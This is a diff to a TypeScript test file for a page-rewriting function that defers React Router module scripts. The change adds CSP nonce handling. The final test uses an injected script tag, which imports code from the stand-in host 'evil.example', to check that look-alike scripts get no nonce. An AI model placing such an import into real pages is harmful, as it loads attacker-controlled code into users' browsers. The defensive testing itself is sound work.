@@ -10,12 +10,14 @@ window.__reactRouterRouteModules = {"root":route0,"routes/home":route1};
 
 import("/assets/entry.client-1.js");`;
 
+const MARK = "0123456789abcdef";
+
 const page = (head: string, script: string) =>
-  `<html><head>${head}<link rel="stylesheet" href="/a.css"/></head><body>$&<script type="module" async="">${script}</script></body></html>`;
+  `<html><head>${head}<link rel="stylesheet" href="/a.css"/></head><body>$&<script nonce="${MARK}" type="module" async="">${script}</script></body></html>`;
 
 /** Runs the document's script as a browser does, and gives what it imports, in order. */
 async function imported(html: string, shown: "before" | "after"): Promise<string[]> {
-  const script = /<script>([\s\S]*?)<\/script>/.exec(html)?.[1] ?? "";
+  const script = /<script nonce="0123456789abcdef">([\s\S]*?)<\/script>/.exec(html)?.[1] ?? "";
   const asked: string[] = [];
   const load = async (file: string) => {
     asked.push(file);
@@ -54,10 +56,13 @@ test("scripts come when the page is shown, all at once, and the entry last", asy
         .join(""),
       SOURCE,
     ),
+    MARK,
   );
   expect(html).not.toContain("modulepreload");
   expect(html).not.toContain('type="module"');
-  expect(html).toContain('<link rel="stylesheet" href="/a.css"/></head><body>$&<script>');
+  expect(html).toContain(
+    '<link rel="stylesheet" href="/a.css"/></head><body>$&<script nonce="0123456789abcdef">',
+  );
   expect(await imported(html, "after")).toEqual([
     "/assets/shell-1.js",
     "/assets/manifest-1.js",
@@ -68,10 +73,17 @@ test("scripts come when the page is shown, all at once, and the entry last", asy
 });
 
 test("a page that was shown before it was read to its end has them at once", async () => {
-  await imported(startWhenShown(page("", SOURCE)), "before");
+  await imported(startWhenShown(page("", SOURCE), MARK), "before");
 });
 
 test("a document without the router's script stays as it is", () => {
   const html = '<link rel="modulepreload" href="/assets/a.js"/><p>Offline</p>';
-  expect(startWhenShown(html)).toBe(html);
+  expect(startWhenShown(html, MARK)).toBe(html);
+});
+
+test("a script that only looks like the router's is left for the policy to refuse", () => {
+  const injected = '<script type="module" async="">import "https://evil.example/x.js";</script>';
+  const html = startWhenShown(page(injected, SOURCE), MARK);
+  expect(html).toContain(injected);
+  expect(html.match(/evil/g)).toHaveLength(1);
 });
